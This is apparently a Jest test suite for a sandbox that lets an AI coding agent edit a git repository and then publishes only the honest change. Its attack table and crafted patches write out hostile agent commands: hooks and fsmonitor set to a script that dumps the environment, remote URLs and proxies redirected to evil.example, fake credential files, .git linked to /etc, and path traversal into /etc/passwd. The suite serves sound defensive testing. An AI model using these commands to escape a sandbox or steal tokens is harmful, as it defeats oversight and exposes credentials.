import { execFile } from "node:child_process";
import { mkdir, readdir, readFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import { openGitHub } from "../../src/github/github.ts";
import { Secret } from "../../src/redact.ts";
import { trustedEnvironment } from "../../src/trusted.ts";
import type { Programs, Workspace } from "../../src/workspace/workspace.ts";
import { openBwrap } from "../support/bwrap-program.ts";
import { type FakeGitHub, type FakeRepository, startFakeGitHub } from "../support/fake-github/index.ts";
import { commitAll, git, makeRepository } from "../support/repo.ts";
import { openWorkspaceScene, statuses, type WorkspaceScene } from "../support/workspace-scene.ts";

const { signal } = new AbortController();
const base = { a: "a\n", "sub/b": "b\n", "run.sh": "#!/bin/sh\n" };
const author = { name: "n", email: "e@example.com" };

let github: FakeGitHub;
let repository: FakeRepository;
let pushToken: string;
let checkoutToken: string;
beforeAll(async () => {
  github = await startFakeGitHub();
  const permissions = { contents: "write" } as const;
  pushToken = github.addToken({ kind: "app", permissions });
  checkoutToken = github.addToken({ kind: "app", permissions });
}, 60_000);
afterAll(async () => {
  await github[Symbol.asyncDispose]();
});

interface Attack {
  /** What the agent does; $EVIL is a program that leaves a mark when it runs outside the sandbox. */
  readonly command: string;
  /** Whether `git add`, `commit`, `status` and `diff` on what it made run $EVIL. */
  readonly naive?: "hits";
  /** What there is to attack, in the first commit. */
  readonly prepare?: (directory: string, root: string) => Promise<string | undefined>;
  /** What besides the honest change is published. */
  readonly also?: readonly string[];
  readonly left?: readonly string[];
}

const withSubmodule = async (directory: string, root: string) => {
  await makeRepository(join(root, "lib"), { lib: "lib\n" });
  await git(directory, "submodule", "--quiet", "add", join(root, "lib"), "lib");
  await commitAll(directory, "with a submodule");
  return undefined;
};
const ownSubmodule = "rm -f lib/.git; git -C lib init -q; git -C lib add -A; git -C lib commit -q -m x";
const hookNames =
  "applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push pre-receive update proc-receive post-receive post-update reference-transaction push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman post-index-change";

const attacks: Readonly<Record<string, Attack>> = {
  nothing: { command: "true" },
  "hooks of every kind": {
    command: `mkdir -p .git/hooks; for h in ${hookNames}; do cp .git/evil.sh .git/hooks/$h; done`,
    naive: "hits",
  },
  "core.hooksPath": {
    command: `mkdir hooks; for h in ${hookNames}; do cp .git/evil.sh hooks/$h; done; git config core.hooksPath $PWD/hooks`,
    naive: "hits",
    also: hookNames.split(" ").map((name) => `added hooks/${name}`),
  },
  "core.fsmonitor": { command: "git config core.fsmonitor $EVIL", naive: "hits" },
  "a clean filter and a filter process, by info/attributes": {
    command:
      "git config filter.x.clean $EVIL; git config filter.x.process $EVIL; git config filter.x.required true; echo '* filter=x' > .git/info/attributes",
    naive: "hits",
  },
  "a filter by attributes in the work tree": {
    command: "git config filter.x.clean $EVIL; echo '* filter=x' > sub/.gitattributes",
    naive: "hits",
  },
  "core.attributesFile": {
    command:
      "echo '* filter=x' > /tmp/attributes; git config core.attributesFile ../run/sandbox-tmp/attributes; git config filter.x.clean $EVIL",
    naive: "hits",
  },
  "textconv, an external diff, a merge driver": {
    command:
      "git config diff.x.textconv $EVIL; git config diff.external $EVIL; git config merge.x.driver $EVIL; echo '* diff=x merge=x' > .git/info/attributes",
    naive: "hits",
  },
  "fsmonitor in a nested repository": {
    command: "git init -q nested; git -C nested config core.fsmonitor $EVIL; echo n > nested/n",
    left: ["nested/"],
  },
  "fsmonitor and hooks in an embedded bare repository": {
    command: "git init -q --bare --template= bare; git -C bare config core.fsmonitor $EVIL",
    also: ["added bare/HEAD", "added bare/config"],
  },
  "fsmonitor in a submodule": {
    command: `${ownSubmodule}; git -C lib config core.fsmonitor $EVIL`,
    naive: "hits",
    prepare: withSubmodule,
    left: ["lib"],
  },
  "a filter in a submodule": {
    command: `${ownSubmodule}; git -C lib config filter.x.clean $EVIL; echo '* filter=x' > lib/.git/info/attributes; sed -i s,lib,LIB, lib/lib`,
    naive: "hits",
    prepare: withSubmodule,
    left: ["lib"],
  },
  "core.worktree, hooks and sshCommand in a submodule, and a new commit": {
    command: `${ownSubmodule}; cd lib; mkdir -p .git/hooks; cp ../.git/evil.sh .git/hooks/post-checkout; git config core.worktree /; git config core.sshCommand $EVIL; git --work-tree=. commit -q --allow-empty -m y; cd ..`,
    prepare: withSubmodule,
    left: ["lib"],
  },
  "a submodule replaced by files": {
    command: "rm -rf lib; mkdir lib; echo mine > lib/mine",
    prepare: withSubmodule,
    left: ["lib"],
  },
  "a submodule's git directory in the checkout's": {
    command:
      "mkdir -p .git/modules; rm lib/.git; git init -q --separate-git-dir=.git/modules/lib lib; git -C lib config core.fsmonitor $EVIL; git config submodule.lib.update '!'$EVIL; git config submodule.recurse true",
    prepare: withSubmodule,
    left: ["lib"],
  },
  "url.insteadOf": { command: "git config url.https://evil.example/.insteadOf https://github.com/" },
  "url.pushInsteadOf and pushurl": {
    command:
      "git config url.ext::$EVIL.pushInsteadOf https://github.com/; git config remote.origin.pushurl https://evil.example/; git config protocol.ext.allow always",
  },
  "http.proxy and no verification": {
    command:
      "git config http.proxy http://evil.example:1; git config http.sslVerify false; git config http.proxySSLCert /etc/x",
  },
  "another header, by an include": {
    command:
      "printf '[http]\\n\\textraheader = X: y\\n\\tproxy = http://evil.example\\n[core]\\n\\tfsmonitor = %s\\n' $EVIL > .git/cfg; git config include.path cfg; git config 'includeIf.gitdir:/.path' cfg",
    naive: "hits",
  },
  "core.sshCommand and other programs for transport": {
    command:
      "for k in core.sshCommand core.gitProxy core.alternateRefsCommand remote.origin.uploadpack remote.origin.receivepack uploadpack.packObjectsHook; do git config $k $EVIL; done; git config remote.origin.promisor true; git config extensions.partialClone origin; git config remote.origin.partialclonefilter blob:none",
  },
  "helpers that are given credentials": {
    command:
      "git config credential.helper '!'$EVIL; git config core.askPass $EVIL; git config credential.https://github.com.helper '!'$EVIL",
  },
  "programs that sign": {
    command:
      "git config gpg.program $EVIL; git config gpg.ssh.program $EVIL; git config commit.gpgSign true; git config tag.gpgSign true; git config push.gpgSign true",
    naive: "hits",
  },
  "editors, pagers, aliases, trailers": {
    command:
      "for k in core.editor core.pager sequence.editor pager.diff pager.status interactive.diffFilter trailer.x.command; do git config $k $EVIL; done; for a in apply commit-tree push write-tree; do git config alias.$a '!'$EVIL; done",
  },
  "core.worktree": { command: "git config core.worktree /" },
  "a .git that is moved, linked or made anew": {
    command:
      "mv .git away || true; ln -s /tmp .git 2>/dev/null || true; rm -rf .git 2>/dev/null || true; git init -q . || true; git config core.fsmonitor $EVIL || true",
  },
  "a .git that is emptied": { command: "rm -rf .git/* .git/.??* || true" },
  "a .git full of links": {
    command:
      "cd .git; rm -rf refs objects index HEAD; ln -s /etc refs; ln -s / objects; ln -s /dev/zero index; ln -s /proc/self/environ HEAD; ln -s / packed-refs; cd ..",
  },
  alternates: {
    command: "echo /etc > .git/objects/info/alternates; echo /etc >> .git/objects/info/http-alternates",
  },
  "an index that hides": {
    command:
      "git update-index --skip-worktree a; git update-index --assume-unchanged sub/b; git update-index --force-remove run.sh; touch .git/index.lock",
  },
  "an exclude that hides": {
    command: "echo '*' > .git/info/exclude; git config core.excludesFile .git/info/exclude",
  },
  "info/sparse-checkout": {
    command:
      "git config core.sparseCheckout true; echo /nothing > .git/info/sparse-checkout; git config index.sparse true; echo '*' >> .git/info/sparse-checkout",
  },
  "replacements, grafts, shallow": {
    command:
      "git replace HEAD^{tree} $(git mktree </dev/null); echo $(git rev-parse HEAD) $(git rev-parse HEAD) > .git/info/grafts; git rev-parse HEAD > .git/shallow; git replace -f $(git rev-parse HEAD:a) $(git rev-parse HEAD:sub/b)",
  },
  "a commit-graph and a multi-pack-index of lies": {
    command:
      "git commit-graph write --reachable 2>/dev/null || true; mkdir -p .git/objects/info .git/objects/pack; rm -f .git/objects/info/commit-graph; head -c 2000 /dev/urandom > .git/objects/info/commit-graph; head -c 2000 /dev/urandom > .git/objects/pack/multi-pack-index",
  },
  "a pack that is none, objects of lies": {
    command:
      "mkdir -p .git/objects/pack .git/objects/aa; head -c 900 /dev/urandom > .git/objects/pack/pack-0123456789012345678901234567890123456789.pack; cp .git/objects/pack/*.pack .git/objects/aa/00000000000000000000000000000000000000; o=$(git rev-parse HEAD:a | sed s,..,\\&/,); mkdir -p .git/objects/$(dirname $o); head -c 90 /dev/urandom > .git/objects/$o",
  },
  reftable: {
    command:
      "git config core.repositoryFormatVersion 1; git config extensions.refStorage reftable; mkdir -p .git/reftable; echo nonsense > .git/reftable/tables.list",
  },
  "a repository format of the future": {
    command:
      "printf '[core]\\n\\trepositoryformatversion = 99\\n[extensions]\\n\\tnonsense = true\\n' >> .git/config",
  },
  "settings at home": {
    command:
      "printf '[core]\\n\\tfsmonitor = %s\\n\\thooksPath = /tmp\\n[url \"https://evil.example/\"]\\n\\tinsteadOf = https://github.com/\\n' $EVIL > $HOME/.gitconfig",
    naive: "hits",
  },
  "settings and passwords in XDG's place": {
    command:
      "mkdir -p $HOME/.config/git; printf '[core]\\n\\tfsmonitor = %s\\n' $EVIL > $HOME/.config/git/config; echo '* filter=x' > $HOME/.config/git/attributes; printf 'machine github.com login evil password evil\\n' > $HOME/.netrc; echo https://evil:evil@github.com > $HOME/.git-credentials",
    naive: "hits",
  },
  "a FIFO in a file's place": { command: "rm sub/b; mkfifo sub/b", left: ["sub/b"] },
  "FIFOs and sockets beside files": {
    command: `mkfifo sub/fifo; python3 -c 'import socket; socket.socket(socket.AF_UNIX).bind("socket")'`,
  },
  "a directory named .GIT": {
    command: "mkdir .GIT; printf '[core]\\n\\tfsmonitor = %s\\n' $EVIL > .GIT/config",
    left: [".GIT/config"],
  },
  "git~1, which is .git to some": {
    command: "echo x > 'git~1'; echo x > CLAUDE~1.MD",
    left: ["CLAUDE~1.MD", "git~1"],
  },
  "a name of Unicode that is .git on a Mac": {
    command: "mkdir $'.g\\xe2\\x80\\x8cit'; echo x > $'.g\\xe2\\x80\\x8cit/config'",
    left: [".g\\u{200c}it/config"],
  },
  "a nested repository without a commit": {
    command: "git init -q nested; echo x > nested/x",
    left: ["nested/"],
  },
  "a file .git that leads elsewhere": {
    command:
      "mkdir fake; git init -q /tmp/elsewhere; git -C /tmp/elsewhere config core.fsmonitor $EVIL; echo 'gitdir: /tmp/elsewhere/.git' > fake/.git; echo x > fake/x",
    left: ["fake/"],
  },
  ".lfsconfig": {
    command:
      "printf '[lfs]\\nurl = https://evil.example/\\n[lfs \"customtransfer.x\"]\\npath = %s\\n' $EVIL > .lfsconfig",
  },
  ".gitmodules with a command": {
    command:
      "printf '[submodule \"x\"]\\n\\tpath = x\\n\\turl = -u%s\\n\\tupdate = !%s\\n' $EVIL $EVIL > .gitmodules; mkdir x; echo x > x/x",
    also: ["added x/x"],
  },
  "a directory replaced by a link out of the workspace": {
    command: "rm -r sub; ln -s / sub",
    also: ["added sub", "deleted sub/b"],
  },
};

/** Every file below a directory, links not followed, with its content. */
async function* filesBelow(directory: string): AsyncIterable<readonly [string, Buffer]> {
  for (const entry of await readdir(directory, { withFileTypes: true, recursive: true })) {
    const path = join(entry.parentPath, entry.name);
    if (entry.isFile()) yield [path, await readFile(path)];
  }
}

async function placesOf(root: string, token: string): Promise<string[]> {
  const encoded = Buffer.from(`x-access-token:${token}`).toString("base64");
  const found = [];
  for await (const [path, content] of filesBelow(root)) {
    if (content.includes(token) || content.includes(encoded)) found.push(path);
  }
  return found;
}

/** As actions/checkout leaves it: the job's token in the settings. */
async function leaveToken(directory: string): Promise<void> {
  await git(directory, "remote", "add", "origin", "https://github.com/octo/demo");
  const header = Buffer.from(`x-access-token:${checkoutToken}`).toString("base64");
  await git(directory, "config", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${header}`);
}

/** git as people would use it on what the agent made, outside the sandbox. */
async function useNaively({ root, directory, workspace }: WorkspaceScene): Promise<void> {
  const env = {
    ...{ PATH: "/usr/bin:/bin", HOME: join(root, "run/sandbox-tmp"), GIT_CONFIG_NOSYSTEM: "1" },
    ...{ GIT_DIR: workspace.throwawayGit.directory, GIT_WORK_TREE: directory },
    ...{ GIT_ALTERNATE_OBJECT_DIRECTORIES: workspace.throwawayGit.objects, GIT_TERMINAL_PROMPT: "0" },
    ...{ GIT_CONFIG_COUNT: "1", GIT_CONFIG_KEY_0: "diff.ignoreSubmodules", GIT_CONFIG_VALUE_0: "none" },
  };
  for (const args of [
    ["update-index", "--no-assume-unchanged", "lib"],
    ["status"],
    ["diff"],
    ["add", "-A"],
    ["commit", "-qm", "x"],
  ]) {
    const started = promisify(execFile)("/usr/bin/git", args, { cwd: directory, env, timeout: 10_000 });
    await started.catch(() => undefined);
  }
}

describe("attacks on the trusted git", () => {
  test.each(Object.entries(attacks))(
    "%s: nothing runs outside, no token is anywhere, and the honest part is published",
    async (_, attack) => {
      await using it = await openWorkspaceScene(base, async (directory, root) => {
        const made = await attack.prepare?.(directory, root);
        await leaveToken(directory);
        return made;
      });
      repository = await github.addRepository({
        name: `octo/demo-${Math.random().toString(36).slice(2)}`,
        from: join(it.root, "repo"),
      });
      const marks = join(it.root, "marks");
      await mkdir(marks);
      await it.agent(`printf '#!/bin/sh\\nenv > ${marks}/$$\\nexit 0\\n' > .git/evil.sh; chmod +x .git/evil.sh
        git config user.name x; git config user.email x@example.com
        export EVIL=${join(it.root, "run/agent.git/evil.sh")} GIT_AUTHOR_NAME=x GIT_AUTHOR_EMAIL=x@x GIT_COMMITTER_NAME=x GIT_COMMITTER_EMAIL=x@x
        ${attack.command}
        echo changed > a; echo honest > honest`);

      const changes = await it.changes();
      const honest = ["added honest", "modified a", ...(attack.also ?? [])].toSorted();
      expect(statuses(changes).toSorted()).toEqual(honest);
      expect(changes.omitted.map(({ path }) => path).toSorted()).toEqual(attack.left ?? []);
      const sha = await it.workspace.commit({ tree: changes.tree, message: "m\n", author });
      await it.workspace.agentBranch();
      await it.workspace.strayBranch();
      await it.workspace.bundle(sha, join(it.root, "change.bundle"));
      // Whatever lies in the job's own HOME, a private one is used.
      const jobHome = { HOME: join(it.root, "run/sandbox-tmp"), PATH: "/usr/bin:/bin" };
      const hub = openGitHub({
        ...{ token: new Secret(pushToken), repository: repository.fullName, tempDir: join(it.root, "run") },
        ...{ serverUrl: github.serverUrl, apiUrl: github.apiUrl, programs: { git: "/usr/bin/git" }, signal },
        env: trustedEnvironment({ ...jobHome, ...github.env }, join(it.root, "run/home")),
      });
      await hub.push({ gitDir: it.workspace.gitDir, sha, branch: "feature/honest", expect: "absent" });
      await it.workspace.createLocalBranch("feature/after", sha);

      expect(await repository.branchSha("feature/honest")).toBe(sha);
      expect(await repository.file("feature/honest", "a")).toBe("changed\n");
      expect(await repository.file("feature/honest", "run.sh")).toBe("#!/bin/sh\n");
      expect(await readdir(marks)).toEqual([]);
      expect(github.refusedHosts).toEqual([]);
      expect(await placesOf(it.root, pushToken)).toEqual([]);
      expect(await placesOf(it.root, checkoutToken)).toEqual([join(it.directory, ".git/config")]);
      await git(it.directory, "fsck", "--strict", "--no-dangling");

      await useNaively(it);
      expect((await readdir(marks)).length > 0 ? "hits" : "misses").toBe(attack.naive ?? "misses");
    },
    60_000,
  );

  test("a repository that lay there before and is broken by the agent is left alone", async () => {
    await using it = await openWorkspaceScene(base, async (directory) => {
      await makeRepository(join(directory, "vendored"), { v: "v\n" });
      return undefined;
    });
    await it.agent("echo '[core' > vendored/.git/config; echo changed > vendored/v; echo b > a");
    expect(statuses(await it.changes())).toEqual(["modified a"]);
  });
});

/** A sandbox in which git answers what it is told to. */
function openLying(workspace: Workspace, lie: (argv: readonly string[]) => string | undefined): Programs {
  const { runProgram, openSeries } = openBwrap(workspace);
  return {
    runProgram,
    async openSeries(request) {
      const series = await openSeries(request);
      return {
        async run(asked) {
          const result = await series.run(asked);
          const told = lie(asked.argv);
          return told === undefined ? result : { ...result, stdout: Buffer.from(told) };
        },
        [Symbol.asyncDispose]: () => series[Symbol.asyncDispose](),
      };
    },
  };
}

describe("a patch from the sandbox", () => {
  const evilPatch = (path: string) =>
    `diff --git a/x b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+evil\n`;
  const link =
    "diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+/tmp\n\\ No newline at end of file\n";

  test.each<[string, string]>([
    ["a path outside", evilPatch("../../outside")],
    ["an absolute path", evilPatch("/etc/passwd").replace("b//etc", "/etc")],
    ["a hook", evilPatch(".git/hooks/pre-commit")],
    ["a hook in capitals", evilPatch(".GIT/hooks/pre-commit")],
    ["a deeper .git", evilPatch("sub/.git/config")],
    ["git~1", evilPatch("git~1/config")],
    [".git with an invisible character", evilPatch(".g\u200cit/config")],
    [".git with a dot and a stream, as Windows has them", evilPatch(".git./config")],
    [".git::$INDEX_ALLOCATION", evilPatch(".git::$INDEX_ALLOCATION/config")],
    ["a backslash before .git", evilPatch("sub\\\\.git\\\\config")],
    ["a file through a symlink of the same patch", `${link}${evilPatch("l/file")}`],
    ["a file through a symlink that is made after it", `${evilPatch("l/file")}${link}`],
    [
      "a gitlink",
      `diff --git a/m b/m\nnew file mode 160000\n--- /dev/null\n+++ b/m\n@@ -0,0 +1 @@\n+Subproject commit ${"1".repeat(40)}\n`,
    ],
    [
      "a control character",
      `diff --git "a/x\\ny" "b/x\\ny"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\ny"\n@@ -0,0 +1 @@\n+evil\n`,
    ],
    ["a rename out", "diff --git a/a b/../a\nsimilarity index 100%\nrename from a\nrename to ../a\n"],
    [
      "a copy of what is elsewhere",
      "diff --git a/../../etc/passwd b/p\nsimilarity index 100%\ncopy from ../../etc/passwd\ncopy to p\n",
    ],
    ["something that is no patch", "nonsense"],
    ["a tree that is not the patch's", evilPatch("fine")],
  ])("is refused with %s", async (_, patch) => {
    await using it = await openWorkspaceScene(base);
    const lying = openLying(it.workspace, (argv) => (argv.includes("-p") ? patch : undefined));
    await it.agent("echo b > a");
    const exporting = it.workspace.exportChanges(lying, signal);
    await expect(exporting).rejects.toMatchObject({ name: "UserError", code: "change-rejected" });
  });

  test("is refused with deletions that lead out or hold what no list does", async () => {
    for (const deleted of ["../a", ".git/config", "a\n", "\n100644 0\tx"]) {
      await using it = await openWorkspaceScene(base);
      // The tree and the patch are left as they are: what is claimed can't come of it.
      const lying = openLying(it.workspace, (argv) =>
        argv.includes("diff-tree") && argv.includes("--raw")
          ? `:100644 000000 ${"1".repeat(40)} ${"0".repeat(40)} D\0${deleted}\0`
          : undefined,
      );
      await it.agent("echo b > a");
      const changes = await it.workspace.exportChanges(lying, signal).catch((error: unknown) => error);
      if (!(changes instanceof Error)) expect(changes).toMatchObject({ files: [] });
      else expect(changes).toMatchObject({ name: "UserError", code: "change-rejected" });
    }
  });
});
